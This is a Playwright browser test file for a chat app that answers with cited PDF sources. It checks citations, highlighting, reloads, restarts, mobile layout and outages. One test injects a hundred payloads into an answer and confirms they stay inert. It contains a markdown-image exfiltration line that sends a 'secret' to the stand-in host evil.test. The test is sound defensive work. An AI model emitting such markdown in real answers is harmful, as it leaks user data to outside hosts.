"""What people do on the page, in a real browser: on the fake service and on the whole product."""

from __future__ import annotations

import re
import uuid
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.agents.payloads import PAYLOADS
from tests.browser.stacks import FakeStack, Stack

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

Opener = Callable[..., Page]
QUESTION = "How much memory does a 70B model need in FP4?"
SENTENCE = "A 70B model needs about 140 GB in FP16 and 35 to 40 GB in FP4."
ANSWER = f"{SENTENCE} [1]"


def _ask(tab: Page, question: str) -> None:
    tab.get_by_test_id("stChatInputTextArea").fill(question)
    tab.keyboard.press("Enter")


def _answer(tab: Page) -> str:
    return tab.locator(".prose.answer").last.inner_text()


def _asked(tab: Page, stack: Stack) -> None:
    stack.answer(ANSWER)
    _ask(tab, QUESTION)
    expect(tab.get_by_role("button", name="Open source 1")).to_be_visible()
    expect(tab.get_by_role("button", name="Stop")).to_have_count(0)


def test_a_question_gets_a_cited_answer(stack: Stack, open_tab: Opener) -> None:
    tab = open_tab(stack.url)
    expect(tab.get_by_text("What do you want to know?")).to_be_visible()
    _asked(tab, stack)
    assert _answer(tab).startswith(SENTENCE)
    expect(
        tab.get_by_role("button", name=re.compile(r"1 quantization-formats\.pdf"))
    ).to_be_visible()
    assert "thread=" in tab.url


def test_a_citation_opens_its_page_with_the_span_marked(stack: Stack, open_tab: Opener) -> None:
    tab = open_tab(stack.url)
    _asked(tab, stack)
    tab.get_by_role("button", name="Open source 1").click()
    expect(tab.get_by_text(re.compile(r"quantization-formats\.pdf · page 2 of 3"))).to_be_visible()
    picture = tab.get_by_alt_text(re.compile("Page 2 of"))
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") >= 1000
    assert _has_highlight(picture)
    expect(tab.locator(".prose.quote mark")).to_contain_text(SENTENCE)
    tab.get_by_role("button", name="Close").first.click()
    expect(picture).to_have_count(0)


def test_in_a_long_conversation_question_and_source_stay_in_view(
    stack: Stack, open_tab: Opener
) -> None:
    tab = open_tab(stack.url)
    _asked(tab, stack)
    cited = tab.get_by_role("button", name="Open source 1")
    for number, text in ((2, "A long story.\n\n" * 60 + ANSWER), (3, ANSWER)):
        stack.answer(text, rewritten=QUESTION)
        _ask(tab, QUESTION)
        expect(tab.locator(".prose.question")).to_have_count(number)
        expect(tab.locator(".prose.question").last).to_be_in_viewport()
        expect(cited).to_have_count(number)
        expect(tab.get_by_role("button", name="Stop")).to_have_count(0)
    expect(cited.last).to_be_in_viewport()
    cited.last.click()
    expect(tab.get_by_alt_text(re.compile("Page 2 of"))).to_be_in_viewport()


def _has_highlight(picture: object) -> bool:
    """Whether some pixels are yellow: no page of the test's PDF is anything but black on white."""
    script = """image => {
      const canvas = document.createElement("canvas");
      [canvas.width, canvas.height] = [image.naturalWidth, image.naturalHeight];
      const context = canvas.getContext("2d");
      context.drawImage(image, 0, 0);
      const { data } = context.getImageData(0, 0, canvas.width, canvas.height);
      let yellow = 0;
      for (let i = 0; i < data.length; i += 4)
        if (data[i] > 200 && data[i + 1] > 180 && data[i + 2] < 210) yellow += 1;
      return yellow;
    }"""
    return picture.evaluate(script) > 500  # type: ignore[attr-defined]


def test_a_reload_in_the_middle_shows_the_whole_answer(stack: Stack, open_tab: Opener) -> None:
    tab = open_tab(stack.url)
    stack.answer(
        f"{SENTENCE} [1] " + "That leaves room for the context and the other programs. " * 3, 0.12
    )
    _ask(tab, QUESTION)
    expect(tab.get_by_text("A 70B model needs")).to_be_visible()
    expect(tab.get_by_role("button", name="Stop")).to_be_visible()
    tab.reload()
    expect(tab.get_by_role("button", name="Stop")).to_be_visible()
    expect(tab.get_by_role("button", name="Stop")).to_have_count(0)
    expect(tab.get_by_role("button", name=re.compile("1 quantization"))).to_be_visible()
    assert _answer(tab).startswith(SENTENCE)
    assert _answer(tab).count("That leaves room") == 3


def test_a_conversation_is_there_again_after_a_restart(stack: Stack, open_tab: Opener) -> None:
    tab = open_tab(stack.url)
    _asked(tab, stack)
    address = tab.url
    tab.close()
    stack.restart()
    again = open_tab(address)
    expect(again.get_by_role("button", name="Open source 1")).to_be_visible()
    assert _answer(again).startswith(SENTENCE)
    again.get_by_role("button", name="New chat").click()
    expect(again.get_by_text("What do you want to know?")).to_be_visible()
    again.get_by_test_id("stSidebar").get_by_role("button", name=QUESTION[:20]).first.click()
    expect(again.get_by_role("button", name="Open source 1")).to_be_visible()


def test_a_stopped_answer_keeps_what_was_written(stack: Stack, open_tab: Opener) -> None:
    tab = open_tab(stack.url)
    stack.answer("Many words follow each other here. " * 20, 0.1)
    _ask(tab, QUESTION)
    expect(tab.get_by_text("Many words follow")).to_be_visible()
    tab.get_by_role("button", name="Stop").click()
    expect(tab.get_by_text("Stopped before its end")).to_be_visible()
    assert _answer(tab).startswith("Many words follow")


def test_a_conversation_is_renamed_and_deleted(stack: Stack, open_tab: Opener) -> None:
    tab = open_tab(stack.url)
    _asked(tab, stack)
    title = f"Memory {uuid.uuid4().hex[:6]}"
    row = tab.locator("[class*=st-key-open-thread]")
    row.get_by_role("button").last.click()
    tab.get_by_role("menuitem", name="Rename").or_(
        tab.get_by_text("Rename", exact=True)
    ).first.click()
    tab.get_by_role("dialog").get_by_label("Title").fill(title)
    tab.get_by_role("dialog").get_by_role("button", name="Save").click()
    expect(row.get_by_text(title)).to_be_visible()
    row.get_by_role("button").last.click()
    tab.get_by_text("Delete", exact=True).first.click()
    tab.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(tab.get_by_text("What do you want to know?")).to_be_visible()
    expect(tab.get_by_text(title)).to_have_count(0)


def test_a_hundred_payloads_in_one_answer_load_nothing_and_act_on_nothing(
    stack: Stack, open_tab: Opener
) -> None:
    """What was asked of the network is looked at when the tab is closed."""
    tab = open_tab(stack.url)
    dialogs: list[str] = []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    before = tab.evaluate("document.scripts.length")
    stack.answer("\n\n".join([*PAYLOADS, "```", "The end of them."]))
    _ask(tab, QUESTION)
    answer = tab.locator(".prose.answer").last
    expect(answer).to_contain_text("The end of them.")
    expect(tab.get_by_role("button", name="Stop")).to_have_count(0)
    loads = (
        "img, iframe, svg, script, object, embed, video, audio, link, meta, style, base, form, a"
    )
    assert answer.locator(loads).count() == 0
    acting = "nodes => nodes.flatMap(n => [...n.attributes].map(a => a.name))"
    names = set(answer.locator("*").evaluate_all(acting))
    assert names <= {"class", "type", "aria-label", "aria-current"}
    assert tab.evaluate("document.scripts.length") == before
    assert tab.url.startswith(stack.url)
    assert dialogs == []
    assert "![chart](http://evil.test/p.png?q=secret)" in answer.inner_text()


def test_on_a_phone_the_source_covers_the_conversation(stack: Stack, open_tab: Opener) -> None:
    tab = open_tab(stack.url, viewport={"width": 390, "height": 800}, has_touch=True)
    _asked(tab, stack)
    tab.get_by_role("button", name="Open source 1").click()
    picture = tab.get_by_alt_text(re.compile("Page 2 of"))
    expect(picture).to_be_visible()
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390
    covered = "() => !!document.elementFromPoint(195, 780).closest('.st-key-viewer')"
    assert tab.evaluate(covered)
    tab.get_by_role("button", name="Close").first.click()
    expect(tab.get_by_test_id("stChatInputTextArea")).to_be_visible()


def test_the_page_is_dark_for_whoever_prefers_that(fake: FakeStack, open_tab: Opener) -> None:
    tab = open_tab(fake.url, color_scheme="dark")
    expect(tab.get_by_text("What do you want to know?")).to_be_visible()
    colour = tab.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor")
    assert max(int(part) for part in re.findall(r"\d+", colour)[:3]) < 60


def test_the_page_survives_an_outage_by_itself(fake: FakeStack, open_tab: Opener) -> None:
    tab = open_tab(fake.url)
    _asked(tab, fake)
    fake.service.stop()
    try:
        tab.get_by_role("button", name="Status").click()
        expect(tab.get_by_text("Alcove is not answering")).to_be_visible()
    finally:
        fake.service.start()
    expect(tab.get_by_text("The library holds")).to_be_visible()
    tab.get_by_role("button", name="Chat", exact=True).click()
    expect(tab.get_by_role("button", name="Open source 1")).to_be_visible()
